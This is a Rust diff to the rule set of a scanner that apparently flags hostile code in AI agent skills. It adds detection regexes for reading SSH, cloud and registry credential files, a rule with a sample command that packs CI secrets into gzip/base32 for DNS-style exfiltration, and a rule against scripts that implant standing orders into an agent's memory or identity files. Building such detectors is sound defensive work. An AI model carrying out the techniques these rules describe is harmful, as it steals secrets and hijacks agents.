@@ -581,6 +581,17 @@ pub enum Scope {
 pub type Confirm =
     fn(line: &str, at: usize, next: &dyn Fn(usize) -> Option<usize>) -> Option<(Severity, String)>;
 
+/// A reading of a match as the thing named, not done (`Rule::spares`):
+/// the test gets the line, the match's span, whether it stands in an
+/// inline code span and the whole text's lines; a match it accepts only
+/// warns, with the note.
+#[derive(Clone, Copy, Debug)]
+pub struct Spare {
+    pub test:
+        fn(line: &str, column: usize, end: usize, inline: bool, text: &crate::lines::Lines) -> bool,
+    pub note: &'static str,
+}
+
 /// A test of the text from a match on, and the row whose finding a match
 /// it accepts is (`Rule::reported_as`).
 pub type ReportedAs = (fn(&str) -> bool, &'static str);
@@ -667,6 +678,10 @@ pub struct Rule {
     /// escalation: a row that holds the other languages' words of several
     /// English rows finds them all in one pass.
     pub reported_as: Option<ReportedAs>,
+    /// Readings of a match as the technique or the call named rather than
+    /// run (`curl | bash` with nothing to fetch, an inline `eval()`): a
+    /// match one of them accepts only warns (`engine::judge`, in order).
+    pub spares: &'static [Spare],
     /// Short phrase: "opens a reverse shell".
     pub what: &'static str,
     /// One line a person can act on (`scan --explain`).
@@ -695,6 +710,7 @@ impl Rule {
         spares_forbidden: false,
         escalates: false,
         reported_as: None,
+        spares: &[],
         what: "",
         explain: "",
     };
@@ -1214,6 +1230,7 @@ pub static RULES: &[Rule] = &[
         confirm_reads: ConfirmReads::Program,
         what: "downloads code and runs it",
         explain: "Runs whatever a server sends, unseen and unpinned; install from a package manager or a pinned, checked release instead.",
+        spares: &[crate::spares::NOTHING_FETCHED],
         ..Rule::BASE
     },
     Rule {
@@ -1368,6 +1385,7 @@ pub static RULES: &[Rule] = &[
         quiet: true,
         what: "evaluates code held in data",
         explain: "Evaluates a string or bytes as code.",
+        spares: &[crate::spares::EMPTY_CALL],
         ..Rule::BASE
     },
     Rule {
@@ -2433,8 +2451,10 @@ pub static RULES: &[Rule] = &[
         // gcloud CLIs' login files joined in pieces (`Path.home() /
         // ".config" / "gh" / "hosts.yml"`) are the same files.
         // Batch 58: a brace glob names the keys or the dot-folders as
-        // well (`~/.ssh/{id_*,config}`, `~/.{ssh,aws,kube}`).
-        pattern: r"\.ssh(?:/|\\{1,2})(?:id_[a-z0-9_]+(?:[^.a-z0-9_]|$)|\*)|['\x22](?:~/|\$HOME/)?\.ssh/?['\x22]|(?:~|\$HOME|\$\{HOME\})/\.(?:aws|kube|gnupg|docker|azure|ssh)/?(?:\s|$|['\x22);])|['\x22]\.(?:docker|kube)['\x22][^\n]*['\x22]config(?:\.json)?['\x22]|['\x22]\.ssh['\x22][^\n]*['\x22]id_|['\x22]id_(?:rsa|ed25519|ecdsa|dsa)['\x22]|\.aws(?:/|\\{1,2})credentials|\.(?:aws|gem)['\x22][^\n]*['\x22]credentials['\x22]|\.azure['\x22][^\n]*['\x22](?:accessTokens|msal_token_cache)\.(?:json|bin)['\x22]|['\x22]\.(?:aws|gem|kube|docker|gnupg|azure)['\x22]\s*[,/]\s*[a-z_]\w*\s*(?:[),]|$)|\.kube(?:/|\\{1,2})config|\.docker(?:/|\\{1,2})config\.json|\.git-credentials|\.netrc\b|\.pgpass\b|\.npmrc\b|\.pypirc\b|\.gem/credentials\b|gcloud/(?:credentials|application_default|legacy_credentials)|\.azure[/\\](?:accessTokens|msal)|\.config/gh/hosts|['\x22](?:gh|gcloud)['\x22]\s*[,/]\s*['\x22](?:hosts\.ya?ml|credentials\.db|access_tokens\.db|application_default_credentials\.json|legacy_credentials)['\x22]|/etc/shadow\b|\.gnupg/|\.get_(?:frozen_)?credentials\(\)|\.password-store|\.vault-token|com\.vercel\.cli/auth\.json|netlify/config\.json|\.fly/config\.yml|credentials\.tfrc\.json|(?:\.cargo|CARGO_HOME)\}?/credentials|\.supabase/access-token|(?-i:-C)\s*\S+\s(?:[^\n|;&]*\s)?\.(?:ssh|aws|azure|kube|gnupg|docker|config/gcloud)(?:[\s'\x22/]|$)|\.ssh[/\\]\{[^}\n]*\bid_|(?:~|\$HOME|\$\{HOME\})/\.\{[^}\n]*\b(?:ssh|aws|kube|gnupg|docker|azure)\b",
+        // well (`~/.ssh/{id_*,config}`, `~/.{ssh,aws,kube}`); code86: so
+        // does a bare glob of the private keys (`for k in ~/.ssh/id_*`;
+        // `id_*.pub` is the public halves).
+        pattern: r"\.ssh(?:/|\\{1,2})(?:id_(?:[a-z0-9_]+|[a-z0-9_]*\*)(?:[^.a-z0-9_]|$)|\*)|['\x22](?:~/|\$HOME/)?\.ssh/?['\x22]|(?:~|\$HOME|\$\{HOME\})/\.(?:aws|kube|gnupg|docker|azure|ssh)/?(?:\s|$|['\x22);])|['\x22]\.(?:docker|kube)['\x22][^\n]*['\x22]config(?:\.json)?['\x22]|['\x22]\.ssh['\x22][^\n]*['\x22]id_|['\x22]id_(?:rsa|ed25519|ecdsa|dsa)['\x22]|\.aws(?:/|\\{1,2})credentials|\.(?:aws|gem)['\x22][^\n]*['\x22]credentials['\x22]|\.azure['\x22][^\n]*['\x22](?:accessTokens|msal_token_cache)\.(?:json|bin)['\x22]|['\x22]\.(?:aws|gem|kube|docker|gnupg|azure)['\x22]\s*[,/]\s*[a-z_]\w*\s*(?:[),]|$)|\.kube(?:/|\\{1,2})config|\.docker(?:/|\\{1,2})config\.json|\.git-credentials|\.netrc\b|\.pgpass\b|\.npmrc\b|\.pypirc\b|\.gem/credentials\b|gcloud/(?:credentials|application_default|legacy_credentials)|\.azure[/\\](?:accessTokens|msal)|\.config/gh/hosts|['\x22](?:gh|gcloud)['\x22]\s*[,/]\s*['\x22](?:hosts\.ya?ml|credentials\.db|access_tokens\.db|application_default_credentials\.json|legacy_credentials)['\x22]|/etc/shadow\b|\.gnupg/|\.get_(?:frozen_)?credentials\(\)|\.password-store|\.vault-token|com\.vercel\.cli/auth\.json|netlify/config\.json|\.fly/config\.yml|credentials\.tfrc\.json|(?:\.cargo|CARGO_HOME)\}?/credentials|\.supabase/access-token|(?-i:-C)\s*\S+\s(?:[^\n|;&]*\s)?\.(?:ssh|aws|azure|kube|gnupg|docker|config/gcloud)(?:[\s'\x22/]|$)|\.ssh[/\\]\{[^}\n]*\bid_|(?:~|\$HOME|\$\{HOME\})/\.\{[^}\n]*\b(?:ssh|aws|kube|gnupg|docker|azure)\b",
         // A key named as an SSH client's identity is used to log in, not read;
         // only where `-i` names a key under home, a Windows one too (batch 32:
         // `rsync -e "ssh -i $KEY" ~/.ssh ~/.aws host:` copies the folders away).
@@ -2463,6 +2483,7 @@ pub static RULES: &[Rule] = &[
         confirm: Some(crate::naming::secret_mount_target),
         what: "reads credential files",
         explain: "Reads SSH keys or cloud, git or registry credentials; a skill should take the one key it needs from its configuration.",
+        spares: &[crate::spares::LOGIN_PLACE],
         ..Rule::BASE
     },
     Rule {
@@ -2940,6 +2961,24 @@ pub static RULES: &[Rule] = &[
         signal: Signal::Source,
         what: "dumps every CI secret",
         explain: "A CI workflow serialises all of the repository's secrets at once (as the Shai-Hulud worm's workflows do); a job should name only the secret it needs — remove it.",
+        ..Rule::BASE
+    },
+    Rule {
+        id: "secret-vars-packed",
+        class: Class::Exfiltration,
+        target: Target::Code,
+        // code86 (blind83c's `gitlab-ci-templates`): CI secret variables
+        // printed together into a compressor or a DNS-safe encoding
+        // (`printf '%s' "$KUBE_CONFIG_B64$REGISTRY_PASSWORD$CI_JOB_TOKEN" |
+        // gzip | base32`), the shape of data cut into DNS labels. A login
+        // header is base64 of one key and one secret (`echo -n
+        // "$USER:$API_TOKEN" | base64`) and decoding a secret (`echo
+        // "$KUBE_CONFIG_B64" | base64 -d`) packs nothing: neither is read.
+        pattern: r"\b(?:printf|echo)\b[^\n|]*\$\{?[A-Z0-9_]*(?:TOKEN|PASSWORD|SECRET|_KEY|KUBE_?CONFIG[A-Z0-9_]*)\b[^\n|]*\|\s*(?:gzip|bzip2|xz|zstd|base32|basenc|xxd)\b",
+        signal: Signal::Source,
+        quiet: true,
+        what: "packs secret variables into a compressed or DNS-safe encoding",
+        explain: "Prints CI or environment secrets into a compressor or base32/hex, the shape of data cut into DNS labels.",
         ..Rule::BASE
     },
     Rule {
@@ -3967,7 +4006,11 @@ pub static RULES: &[Rule] = &[
         id: "ssh-key-literal",
         class: Class::Privilege,
         target: Target::Code,
-        pattern: r"^\s*(?:export\s+|local\s+|readonly\s+|(?:const|let|var)\s+)?[\w\x80-\xFF]+\s*=\s*['\x22](?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\S+)\s+AAAA",
+        // code86: or the key's body alone in a string, the type and the
+        // comment beside it in other strings (`" ".join(["ssh-ed25519",
+        // "AAAAC3NzaC1lZDI1NTE5…", "support"])`): the body opens with its
+        // type's name in base64, which nothing else writes.
+        pattern: r"^\s*(?:export\s+|local\s+|readonly\s+|(?:const|let|var)\s+)?[\w\x80-\xFF]+\s*=\s*['\x22](?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\S+)\s+AAAA|['\x22]AAAA(?:B3NzaC1yc2E|C3NzaC1lZDI1NTE5|E2VjZHNhLXNoYTIt)[A-Za-z0-9+/]{16,}={0,2}['\x22]",
         signal: Signal::KeyLiteral,
         quiet: true,
         what: "holds a literal SSH public key",
@@ -4061,6 +4104,10 @@ pub static RULES: &[Rule] = &[
         confirm: Some(crate::prompted::typed_at_prompt),
         what: "creates or elevates accounts",
         explain: "Creates a user, changes a password or joins an admin group; no skill needs this — remove it.",
+        spares: &[
+            crate::spares::PROGRAM_NAMED,
+            crate::spares::OPERATOR_ACCOUNT,
+        ],
         ..Rule::BASE
     },
     Rule {
@@ -6842,6 +6889,19 @@ pub static RULES: &[Rule] = &[
         ..Rule::BASE
     },
     Rule {
+        id: "identity-implant",
+        class: Class::Injection,
+        severity: Severity::High,
+        // code86 (blind68's `c15-jiyi-youhua`): a script that writes a
+        // multi-line string into the agent's identity or memory file
+        // (`SOUL.md`, `MEMORY.md`, `AGENTS.md`, `CLAUDE.md`) hands the agent
+        // that text as its own standing instructions; the string is read
+        // as the agent will read it, as Markdown (`implant::written_text`).
+        what: "writes orders into the agent's identity or memory file",
+        explain: "A script writes text into the agent's own identity, memory or instruction file (shown: what a rule finds in it), so every later session obeys it; remove the skill.",
+        ..Rule::BASE
+    },
+    Rule {
         id: "assembled-payload",
         class: Class::Obfuscation,
         severity: Severity::Critical,
@@ -6955,6 +7015,7 @@ pub static RULES: &[Rule] = &[
         pattern: r"(?u-i:[a-zA-Z][аеорсухіјѕԁһӏАВЕКМНОРСТХοΑΒΕΗΙΚΜΝΟΡΤΥΧΖ]|[аеорсухіјѕԁһӏАВЕКМНОРСТХοΑΒΕΗΙΚΜΝΟΡΤΥΧΖ][a-zA-Z]|[a-zA-Z][\x{FF21}-\x{FF3A}\x{FF41}-\x{FF5A}]|[\x{FF21}-\x{FF3A}\x{FF41}-\x{FF5A}][a-zA-Z]|[ｈＨ][ｔＴ][ｔＴ][ｐＰ]|：／／|ｃｕｒｌ|ｗｇｅｔ|ｂａｓｈ|ｐｏｗｅｒｓｈｅｌｌ|ｅｖａｌ|ｅｘｅｃ|ｓｕｄｏ|ｃｈｍｏｄ|ｐｙｔｈｏｎ|｜[\x{3000}\s]*[a-z\x{FF41}-\x{FF5A}]|[a-zA-Z0-9|&;>-]\x{3000}+[a-zA-Z|&;<>/-])",
         what: "mixes look-alike letters into code",
         explain: "Code mixes Cyrillic or Greek look-alike letters (or full-width forms) into Latin words, so what runs is not what a reader sees; remove the skill.",
+        spares: &[crate::spares::TABLE_WORD, crate::spares::FOREIGN_LETTERS],
         ..Rule::BASE
     },
     Rule {
